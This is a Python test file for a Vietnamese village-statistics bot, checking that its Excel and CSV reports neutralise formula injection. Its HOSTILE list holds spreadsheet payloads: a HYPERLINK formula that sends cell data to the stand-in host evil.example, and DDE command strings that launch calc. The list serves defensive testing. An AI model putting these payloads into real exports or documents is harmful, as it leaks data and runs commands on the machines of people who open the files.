"""Exports are data: hostile names never become spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.cli.reports import render_csv
from bot.core.engine import Engine
from bot.stats.coverage import commune_coverage
from bot.storage.db import transaction
from bot.storage.imports import import_villages
from tests.factories import Chat, grant

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tThôn Tab",
]


async def import_hostile(sessions: async_sessionmaker[AsyncSession], tmp_path: Path) -> None:
    path = tmp_path / "villages.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["commune", "village", "households_total"])
        for n, name in enumerate(HOSTILE):
            writer.writerow(["Kim Thành", name, 100 + n])
    async with transaction(sessions) as session:
        await import_villages(session, path)


async def test_the_xlsx_report_holds_no_formula(
    engine: Engine, commune: int, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await import_hostile(sessions, tmp_path)
    staff = Chat(engine, user="staff")
    await grant(engine, staff, "staff")
    await staff.say("/xuatbaocao")
    await staff.press("Excel")
    document = next(r.document for r in staff.replies if r.document)
    book = openpyxl.load_workbook(io.BytesIO(document))
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    assert "'" + HOSTILE[0] in texts  # shown as typed, as text
    assert 104 in numbers  # numbers stay numbers


async def test_the_csv_statistics_neutralise_formulas(
    commune: int, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await import_hostile(sessions, tmp_path)
    async with sessions() as session:
        rows = list(csv.reader(io.StringIO(render_csv(await commune_coverage(session)))))
    villages = [row[1] for row in rows[1:]]
    assert "'" + HOSTILE[0] in villages and "'+1+2" in villages
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in villages)
    totals = [row[2] for row in rows[1:]]
    assert "104" in totals  # a number is written as it is
